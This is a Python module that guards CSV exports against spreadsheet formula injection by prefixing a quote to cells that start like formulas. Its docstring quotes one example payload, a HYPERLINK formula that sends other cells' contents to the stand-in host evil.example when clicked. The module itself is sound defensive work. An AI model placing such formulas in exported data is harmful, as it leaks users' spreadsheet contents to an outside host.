"""CSV rows a spreadsheet reads as data, never as formulas: every CSV eosfix writes is written
by a ``CsvWriter``, whose every cell passes ``inert_cell``.

A cell holds text from a repo (a token, a revision name, an error naming a file), and a
spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example/?d="&A3, "Fix here")`` sends other cells away when
clicked). OWASP's rule for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection)
names those four and a leading tab or carriage return: such a cell gets a leading ``'``, which
spreadsheets read as "this cell is text" and any other reader shows as it is. A number stays as
it is: ``-1`` or ``+2.5`` is read as that number, never run, so a negative id in
``eos_token_id`` stays a number.

Quoting is RFC 4180's (the csv module's: a cell with a comma, a quote or a line break is
quoted), with ``\\n`` line ends.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TextIO

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")  # ASCII digits: what a spreadsheet reads


def inert_cell(text: str) -> str:
    """``text`` as a cell no spreadsheet runs: ``'`` before one that starts like a formula."""
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class CsvWriter:
    """Rows of text cells to ``out``, each cell made inert first."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, cells: Iterable[str]) -> None:
        self._writer.writerow([inert_cell(c) for c in cells])
